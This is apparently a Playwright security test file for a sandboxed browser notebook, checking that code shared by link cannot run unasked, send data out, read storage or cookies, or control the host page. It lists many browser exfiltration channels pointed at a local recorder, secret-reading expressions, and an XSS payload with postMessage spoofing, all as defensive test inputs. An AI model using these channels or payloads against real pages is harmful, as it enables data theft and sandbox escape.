import assert from "node:assert/strict";
import {createSocket} from "node:dgram";
import {createServer} from "node:http";
import type {AddressInfo} from "node:net";
import type {Page} from "playwright-core";
import type {Interaction} from "./interaction.js";

const SECRET = "kept-by-the-site";

/** Ways out that a browser has; `to` is a host that writes down what arrives. */
const waysOut = (to: string): Readonly<Record<string, string>> => ({
  fetch: `await fetch("${to}/fetch", {mode: "no-cors"})`,
  beacon: `navigator.sendBeacon("${to}/beacon", "x")`,
  request: `const x = new XMLHttpRequest(); x.open("GET", "${to}/xhr"); x.send()`,
  socket: `new WebSocket("${to.replace("http", "ws")}/socket")`,
  events: `new EventSource("${to}/events")`,
  image: `new Image().src = "${to}/image"`,
  style: `document.body.style.background = 'url("${to}/css")'`,
  rule: `document.head.append(Object.assign(document.createElement("style"), {textContent: '@import "${to}/rule"; @font-face {font-family: x; src: url("${to}/font")} body {font-family: x}'}))`,
  font: `await new FontFace("x", 'url("${to}/face")').load()`,
  import: `await import("${to}/import")`,
  data: `await import('data:text/javascript,fetch("${to}/data")')`,
  script: `document.body.append(Object.assign(document.createElement("script"), {src: "${to}/script"}))`,
  inline: `document.body.append(Object.assign(document.createElement("script"), {textContent: 'fetch("${to}/inline")'}))`,
  worker: `new Worker(URL.createObjectURL(new Blob(['fetch("${to}/worker")'])))`,
  video: `const v = document.createElement("video"); v.src = "${to}/video"; document.body.append(v); v.load()`,
  object: `document.body.append(Object.assign(document.createElement("object"), {data: "${to}/object"}))`,
  drawing: `document.body.insertAdjacentHTML("beforeend", '<svg><image href="${to}/svg"/><use href="${to}/use#a"/></svg>')`,
  ...Object.fromEntries(
    ["stylesheet", "prefetch", "preload", "modulepreload", "preconnect", "dns-prefetch", "icon", "manifest"].map(
      (rel) => [
        rel,
        `document.head.append(Object.assign(document.createElement("link"), {rel: "${rel}", as: "script", href: "${to}/${rel}"}))`
      ]
    )
  ),
  rules: `document.head.append(Object.assign(document.createElement("script"), {type: "speculationrules", textContent: JSON.stringify({prefetch: [{urls: ["${to}/rules"]}]})}))`
});

/** Those that may end the document they are in, or take a while: each in a notebook of its own. */
const waysOff = (to: string, port: number): Readonly<Record<string, string>> => ({
  form: `const f = document.createElement("form"); f.action = "${to}/form"; document.body.append(f); f.submit()`,
  window: `open("${to}/window")`,
  ping: `const a = document.createElement("a"); a.href = "#x"; a.ping = "${to}/ping"; document.body.append(a); a.click()`,
  download: `const a = document.createElement("a"); a.href = "${to}/download"; a.download = "x"; document.body.append(a); a.click()`,
  link: `const a = document.createElement("a"); a.href = "${to}/link"; document.documentElement.parentNode.addEventListener("click", (e) => e.stopImmediatePropagation(), true); document.body.append(a); a.click()`,
  place: `location.href = "${to}/place"`,
  navigation: `navigation.navigate("${to}/navigation")`,
  refresh: `document.head.append(Object.assign(document.createElement("meta"), {httpEquiv: "refresh", content: "0;url=${to}/refresh"}))`,
  dataPage: `location.href = 'data:text/html,<script>fetch("${to}/data-page")</script>'`,
  blobPage: `location.href = URL.createObjectURL(new Blob(['<script>fetch("${to}/blob-page")</script>'], {type: "text/html"}))`,
  top: `top.location = "${to}/top"`,
  child: `document.body.append(Object.assign(document.createElement("iframe"), {src: "${to}/child"}))`,
  fresh: `document.body.append(Object.assign(document.createElement("iframe"), {srcdoc: '<script>const p = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:${port}"}]}); p.createDataChannel("x"); p.setLocalDescription(); fetch("${to}/fresh")</script><img src="${to}/fresh-image"><meta http-equiv="refresh" content="0;url=${to}/fresh-page">'}))`,
  handler: `const peer = 'const p = new RTCPeerConnection({iceServers: [{urls: &quot;stun:127.0.0.1:${port}&quot;}]}); p.createDataChannel(1); p.setLocalDescription()';
    document.body.append(Object.assign(document.createElement("iframe"), {srcdoc: '<svg onload="' + peer + '"></svg><img src="x" onerror="' + peer + '"><iframe src="javascript:' + peer + '"></iframe>'}))`,
  own: `const frame = document.createElement("iframe");
    frame.srcdoc = "<script>" + document.scripts[0].text + "<" + "/script>";
    document.body.append(frame);
    await new Promise((done) => { frame.onload = done });
    const {port1, port2} = new MessageChannel();
    frame.contentWindow.postMessage({type: "open", lang: "zh", data: {frames: {cells: []}, info: []}}, "*", [port2]);
    port1.postMessage({type: "show", run: true, cells: ['const p = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:${port}"}]}); p.createDataChannel("x"); p.setLocalDescription(); fetch("${to}/own")']})`,
  peer: `const p = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:${port}"}]}); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer())`
});

/** What code may not read, each an expression that must fail or give nothing. */
const secrets = {
  storage: `globalThis.localStorage.getItem("secret")`,
  session: `globalThis.sessionStorage.length`,
  cookies: `globalThis.document.cookie`,
  databases: `globalThis.indexedDB.open("x").readyState`,
  caches: `await globalThis.caches.keys()`,
  page: `globalThis.parent.document.title`,
  pageStorage: `globalThis.parent.localStorage.secret`,
  top: `globalThis.top.document.body.innerHTML`,
  frame: `globalThis.frameElement.ownerDocument.title`,
  origin: `globalThis.origin === "null" ? "" : globalThis.origin`,
  site: `await (await fetch("/data/frames/jilin-2024/report.json")).text()`,
  opener: `globalThis.opener.document`,
  workers: `await globalThis.navigator.serviceWorker.getRegistrations()`
};

const frameOf = (page: Page) => page.frameLocator("iframe.notebook-live");

const runAll = (page: Page) => page.locator(".notebook-tools button").first().click();

function link(...sources: readonly string[]): string {
  return `notebook#code=p.${Buffer.from(JSON.stringify(sources)).toString("base64url")}`;
}

/** Writes down bytes, requests and datagrams that reach it. A connection that carries nothing is not a message. */
async function recorder() {
  const arrived: string[] = [];
  const server = createServer((request, response) => {
    arrived.push(request.url ?? "");
    response.setHeader("access-control-allow-origin", "*").end("");
  });
  server.on("connection", (socket) => socket.on("data", (data) => arrived.push(`${data.length} bytes`)));
  const datagrams = createSocket("udp4").on("message", () => arrived.push("datagram"));
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  await new Promise<void>((done) => datagrams.bind(0, "127.0.0.1", done));
  return {
    to: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    port: datagrams.address().port,
    arrived,
    close() {
      datagrams.close();
      server.closeAllConnections();
      server.close();
    }
  };
}

/** That a cell tried, and what came of it, without an error that nobody caught. */
const tried = (code: string) => `try { ${code} } catch (error) { display(String(error)) }\ndisplay("tried")`;

/** Code that comes by a link, and cannot do what it wants. */
export const notebookAttacks: readonly Interaction[] = [
  {
    title: "code of a link does not run by itself",
    page: link(`document.title = "ran"; globalThis.ran = 1`),
    async run(page) {
      await frameOf(page).locator(".cell").waitFor();
      await page.waitForTimeout(1000);
      assert.equal(await frameOf(page).locator(".cell").getAttribute("data-state"), "unrun");
      assert.equal(
        await frameOf(page)
          .locator("body")
          .evaluate(() => Reflect.has(globalThis, "ran")),
        false
      );
    }
  },
  {
    title: "hostile code sends nothing, whichever way it tries",
    page: "notebook",
    async run(page, origin) {
      const {to, port, arrived, close} = await recorder();
      try {
        const together = Object.values(waysOut(to)).map(tried);
        for (const cells of [together, ...Object.values(waysOff(to, port)).map((code) => [tried(code)])]) {
          await page.goto("about:blank");
          await page.goto(`${origin}/${link(...cells)}`);
          await frameOf(page).locator(".cell").first().waitFor();
          await runAll(page);
          // Connections between browsers take longer to begin.
          await page.waitForTimeout(cells.length > 1 || cells[0]?.includes("RTC") ? 3000 : 600);
          assert.deepEqual(arrived, [], cells[0]);
          assert.ok(page.url().startsWith(origin), cells[0]);
          const opened = page.context().pages();
          assert.ok(!opened.some((one) => one.url().startsWith(to)), cells[0]);
        }
      } finally {
        close();
      }
    }
  },
  {
    title: "hostile code reads neither storage nor cookies nor the page, and has no origin",
    page: "notebook",
    async run(page, origin) {
      await page.evaluate((secret) => {
        localStorage.setItem("secret", secret);
        // biome-ignore lint/suspicious/noDocumentCookie: what a frame of this origin could read.
        document.cookie = `secret=${secret}`;
      }, SECRET);
      const sources = Object.entries(secrets).map(
        ([name, code]) =>
          `try { display("${name}: " + ((${code}) || "nothing")) } catch { display("${name}: refused") }`
      );
      await page.goto("about:blank");
      await page.goto(`${origin}/${link(...sources)}`);
      await frameOf(page).locator(".cell").first().waitFor();
      await runAll(page);
      for (const [i, name] of Object.keys(secrets).entries()) {
        const shown = frameOf(page).locator(".cell").nth(i).locator(".cell-output");
        await shown.getByText(new RegExp(`${name}: (refused|nothing)`)).waitFor();
      }
      await page.evaluate(() => localStorage.removeItem("secret"));
    }
  },
  {
    title: "hostile code cannot press the page's buttons, however it speaks to it",
    page: link(
      `const send = MessagePort.prototype.postMessage;
       let port;
       MessagePort.prototype.postMessage = function (...parts) { port = this; return send.apply(this, parts); };
       setTimeout(() => {
         for (const type of ["save", "run", "open", "link", "taken", "kept", "theme"]) {
           parent.postMessage({type, id: 1, cells: ["x"]}, "*");
           port?.postMessage({type, id: 1, cells: ["<img src=x onerror=alert(1)>"], height: 1e9});
         }
         port?.postMessage({type: "height", height: 1e9});
         port?.postMessage({type: "height", height: "1px;position:fixed"});
         port?.postMessage(null);
       }, 3000);`
    ),
    async run(page) {
      await frameOf(page).locator(".cell").first().waitFor();
      await runAll(page);
      await page.waitForTimeout(4500);
      assert.equal(await page.evaluate(() => localStorage.getItem("juesuan.notebook")), null);
      assert.equal(await page.locator("img[src=x]").count(), 0);
      const {height = 0} = (await page.locator("iframe.notebook-live").boundingBox()) ?? {};
      assert.ok(height <= 200_000);
    }
  },
  {
    title: "code that another notebook left behind is gone with it",
    page: link("globalThis.left = 1"),
    async run(page, origin) {
      await frameOf(page).locator(".cell").first().waitFor();
      await runAll(page);
      await frameOf(page).locator('.cell[data-state="done"]').waitFor();
      await page.goto(`${origin}/${link("globalThis.left === undefined", "2")}`);
      await frameOf(page).locator(".cell").nth(1).waitFor();
      await runAll(page);
      await frameOf(page).locator(".cell").first().getByText("true").waitFor();
    }
  },
  {
    title: "a loop without end that no guard sees is stopped from the page",
    page: link("1 + 1", `eval("while (true);")`),
    async run(page) {
      await frameOf(page).locator(".cell").first().waitFor();
      await runAll(page);
      await page.getByRole("button", {name: "停下来，重新打开，不运行"}).click({timeout: 60_000});
      await frameOf(page).locator(".cell").nth(1).waitFor();
      assert.equal(await frameOf(page).locator('.cell:not([data-state="unrun"])').count(), 0);
    }
  },
  {
    title: "a notebook that left its page is opened again, its code unrun",
    page: link("1 + 1", `setTimeout(() => { location.href = "about:blank" })`),
    async run(page) {
      await frameOf(page).locator(".cell").first().waitFor();
      await runAll(page);
      await page.getByRole("button", {name: "停下来，重新打开，不运行"}).click({timeout: 60_000});
      await frameOf(page).locator(".cell").nth(1).waitFor();
      assert.equal(await frameOf(page).locator('.cell:not([data-state="unrun"])').count(), 0);
    }
  }
];
